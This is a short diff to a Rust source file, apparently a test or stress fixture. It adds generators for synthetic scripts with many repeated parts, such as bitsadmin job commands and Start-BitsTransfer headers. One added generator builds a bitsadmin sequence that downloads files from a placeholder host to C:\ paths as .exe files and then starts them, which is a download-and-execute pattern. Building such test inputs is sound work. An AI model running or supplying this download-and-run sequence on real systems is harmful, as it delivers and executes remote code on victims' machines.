@@ -270,6 +270,20 @@ type Many = fn(usize) -> String;
 
 /// Scripts by what they have many of.
 const MANY: &[(&str, Many)] = &[
+    ("sentences between commands", |count| {
+        lines(count, |n| {
+            format!("This is what you do next, Jim:\nbitsadmin /resume job{n}")
+        })
+    }),
+    ("downloads that are run", |count| {
+        let runs = lines(count, |n| format!("start C:\\{n}.exe"));
+        format!(
+            "bitsadmin /create j\n{}{runs}",
+            lines(count, |n| format!(
+                "bitsadmin /addfile j https://h/{n} C:\\{n}.exe"
+            ))
+        )
+    }),
     ("headers of a cmdlet", |count| {
         let headers = listed(count, |n| format!("'X-{n}: {n}'"));
         format!("Start-BitsTransfer https://h/a C:\\a -CustomHeaders {headers}")
